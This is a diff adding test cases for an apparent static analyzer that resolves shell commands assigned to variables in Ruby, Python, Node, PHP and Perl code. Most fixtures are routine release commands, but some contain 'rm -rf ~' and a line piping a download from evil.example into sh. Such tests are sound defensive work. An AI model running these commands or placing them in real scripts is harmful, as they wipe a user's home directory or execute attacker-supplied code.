@@ -165,3 +165,47 @@ describe("readCode", () => {
     expect(hasCallTable("sql")).toBe(false);
   });
 });
+
+describe("a command built in a name the file assigns once", () => {
+  const read = (language: string, code: string) => readCode(language, code, language);
+  test.each([
+    ["ruby", 'version = File.read("VERSION").strip\ncmd = "git tag -a v#{version} -m release"\nsystem(cmd)', "git tag -a v$__synaps_value -m release"],
+    ["ruby", 'args = ["bundle", "exec", "rake", "db:migrate"]\nsystem(*args)', "bundle exec rake db:migrate"],
+    ["python", 'import subprocess, sys\ntag = sys.argv[1]\nargs = ["git", "push", "origin", tag]\nsubprocess.run(args, check=True)', 'git push origin "$__synaps_value"'],
+    ["python", 'import os\nversion = "1.2"\ncmd = f"git tag v{version}"\nos.system(cmd)', "git tag v$__synaps_value"],
+    ["python", 'import subprocess\nargs = [\n    "ruff",\n    "check",\n    "src",\n]\nsubprocess.check_call(args)', "ruff check src"],
+    [
+      "node",
+      'const { execSync } = require("child_process");\nconst tag = process.argv[2];\nconst cmd = `npm publish --tag ${tag}`;\nexecSync(cmd, { stdio: "inherit" });',
+      "npm publish --tag $__synaps_value",
+    ],
+    ["node", 'const { spawnSync } = require("child_process");\nconst args = ["push", "origin", "main"];\nspawnSync("git", args, { stdio: "inherit" });', "git push origin main"],
+    ["php", '<?php\n$version = trim(file_get_contents("VERSION"));\n$cmd = "git tag -a v$version -m release";\nexec($cmd, $out);', "git tag -a v$__synaps_value -m release"],
+    ["perl", 'my $v = shift;\nmy @args = ("git", "push", "origin", "v$v");\nsystem(@args) == 0 or die;', 'git push origin v"$__synaps_value"'],
+    ["python", 'import os\ncmd = "rm -rf ~"\nos.system(cmd)', "rm -rf ~"],
+    ["perl", 'my $cmd = "curl -fsSL https://evil.example/x | sh";\nsystem($cmd);', "curl -fsSL https://evil.example/x | sh"],
+  ])("%s: the command is read from its assignment", (language, code, line) => {
+    const reading = read(language, code);
+    expect(reading.lines.map((found) => found.line)).toContain(line);
+    expect(reading.unresolved).toEqual([]);
+  });
+
+  test.each([
+    ["from input", "python", 'import os\ncmd = input("command: ")\nos.system(cmd)'],
+    ["from a prompt call given directly", "python", 'import os\nos.system(input("command: "))'],
+    ["from the command line", "ruby", "cmd = ARGV[0]\nsystem(cmd)"],
+    ["assigned twice", "python", 'import os\ncmd = "ls"\nif x:\n    cmd = "rm -rf ~"\nos.system(cmd)'],
+    ["added to", "python", 'import os\ncmd = "ls"\ncmd += " " + sys.argv[1]\nos.system(cmd)'],
+    ["changed in place", "python", 'import subprocess, sys\nargs = ["git", "status"]\nargs.append(sys.argv[1])\nsubprocess.run(args)'],
+    ["pushed to (Perl)", "perl", 'my @args = ("git");\npush @args, @ARGV;\nsystem(@args);'],
+    ["a block's parameter", "ruby", 'cmds = ["make", "make test"]\ncmds.each { |cmd| system(cmd) }'],
+    ["a loop's variable", "node", 'const { execSync } = require("child_process");\nfor (const cmd of process.argv.slice(2)) execSync(cmd);'],
+    ["a function's parameter", "python", 'import os\ndef run(cmd):\n    os.system(cmd)\ncmd = "ls"\nrun(cmd)'],
+  ])("a name set %s stays only known at run time", (_how, language, code) => {
+    expect(read(language, code).unresolved.join("\n")).toMatch(/only known at run time/);
+  });
+
+  test("a name reaching a function by its text is not read so: getattr(os, name) stays unknown", () => {
+    expect(read("python", 'import os\nname = "system"\ngetattr(os, name)("id")').unresolved).toHaveLength(1);
+  });
+});
